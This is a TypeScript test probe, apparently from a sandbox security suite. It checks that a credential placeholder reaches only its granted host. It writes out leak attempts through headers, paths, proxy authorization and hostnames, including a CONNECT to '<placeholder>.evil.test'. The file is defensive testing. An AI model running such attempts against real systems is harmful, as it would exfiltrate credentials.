// Probe 147: a credential stands where its entry says, in a call that may use it, and nowhere else.
import { proxyPort } from '../../lib/own-variables.ts'
import { doorTarget } from '../../sandbox/spec.ts'
import { finds, seen, stops, stopsOrFinds, type Attempt } from '../attempt.ts'
import { withoutNetworkThereIs } from '../gvisor/inapplicable.ts'
import type { Probe, Scene } from '../probe.ts'
import { ask, established, hearsOf, types } from './asking.ts'

const line = '\\r\\n'
const lost = ['ECONNRESET', 'EPIPE'] as const
const elsewhere = 'placeholder-elsewhere'

/** Names with its placeholder: one that is looked up, one that a request is for, and one that is none. */
const names = ({ secret }: Scene['wayOut']) => {
  const own = secret.own.toLowerCase()
  return { asked: `${own}.asked.test`, requested: `${own}.requested.test`, unnamed: `${own}..test` }
}

const atDoor = ({ wayOut }: Scene): readonly Attempt[] => {
  const { grant, greeting, secret } = wayOut
  const to = `SP1 connect ${grant.host} ${grant.port}\\n`
  const host = `Host: ${grant.host}:${grant.port}`
  const get = (path: string, ...fields: readonly string[]): string =>
    [`${to}GET ${path} HTTP/1.1`, host, ...fields, '', ''].join(line)
  const refused = (label: string, words: string): Attempt =>
    stopsOrFinds(
      ['exchange', doorTarget, '0', words],
      lost,
      (text) => (text.includes(greeting) ? 'the server answers' : null),
      label,
    )
  const { asked, requested, unnamed } = names(wayOut)
  const carried: Readonly<Record<string, string>> = {
    'its placeholder': secret.own,
    'its placeholder in base64': Buffer.from(`a:${secret.own}`).toString('base64'),
    'a placeholder of another sandbox': secret.others,
    'the value itself': secret.value,
    'the value in base64': Buffer.from(secret.value).toString('base64'),
  }
  return [
    ...Object.entries(carried).flatMap(([what, text]) => [
      refused(`${what}, in a header for another host`, get('/', `Authorization: Bearer ${text}`)),
      refused(`${what}, in a path for another host`, get(`/${text}`)),
      refused(`${what}, in no protocol that is known`, `${to}\\x01${text}`),
    ]),
    finds(
      [
        'exchange',
        '127.0.0.1',
        `${proxyPort}`,
        `CONNECT ${secret.own.toLowerCase()}.evil.test:443 HTTP/1.1${line}${line}`,
      ],
      (text) => (text.includes(elsewhere) ? null : text.slice(0, 60)),
      'its placeholder, in a name that is asked for',
    ),
    finds(
      [
        'exchange',
        '127.0.0.1',
        `${proxyPort}`,
        `CONNECT ${grant.host}:${grant.port} HTTP/1.1${line}Proxy-Authorization: Basic ${secret.own}${line}${line}`,
        established,
      ],
      (text) => (text.includes(elsewhere) ? null : text.slice(0, 60)),
      'its placeholder, said to the proxy',
    ),
    ask(asked, types.A, ['ENOENT']),
    finds(
      [
        'exchange',
        '127.0.0.1',
        `${proxyPort}`,
        `GET http://${requested}/ HTTP/1.1${line}Host: ${requested}${line}${line}`,
      ],
      (text) => (text.includes(elsewhere) ? null : text.slice(0, 60)),
      'its placeholder, in the host of a request',
    ),
    stops(
      ['exchange', doorTarget, '0', `SP1 connect ${unnamed} 443\\n`],
      lost,
      'its placeholder, in what is no name',
    ),
    hearsOf('its placeholder in a name, as it is told', wayOut, () =>
      [asked, requested, unnamed].map((name) => `${elsewhere} ${name}`),
    ),
    finds(
      ['exchange', doorTarget, '0', get('/', 'Authorization: Bearer nothing')],
      (text) => (text.includes(greeting) ? null : `no answer: ${text.slice(0, 60)}`),
      'a request without it',
    ),
  ]
}

export const secretProbes: readonly Probe[] = [
  {
    id: 'network.secrets',
    number: 147,
    group: 'network',
    protects:
      'A credential goes to the host of its entry, in a call that may use it: what stands for it is worth nothing elsewhere.',
    control: 'placeholders',
    isAlone: true,
    within: (lab) => ({ ...lab, openDoor: lab.doors.screened }),
    trial: (scene) =>
      scene.spec.network.mode === 'none'
        ? withoutNetworkThereIs('nobody to tell it', 'nobody is there to be told one')
        : {
            expected: 'a cut of each connection that carries it',
            attempts: [
              ...atDoor(scene),
              seen(
                'what stands for it, where and when',
                async ({ launched }) =>
                  (await scene.wayOut.secret.astray(launched?.lab.signal ?? AbortSignal.abort())).join(', '),
                (text) => (text === '' ? null : text),
              ),
            ],
            outside: [
              finds(
                [
                  'exchange',
                  '127.0.0.1',
                  `${scene.wayOut.grant.port}`,
                  `GET / HTTP/1.1${line}Authorization: Bearer ${scene.wayOut.secret.own}${line}${line}`,
                ],
                (text) => (text.includes(scene.wayOut.greeting) ? 'the server answers' : null),
                'its placeholder, told to the server without a door',
              ),
            ],
          },
  },
]
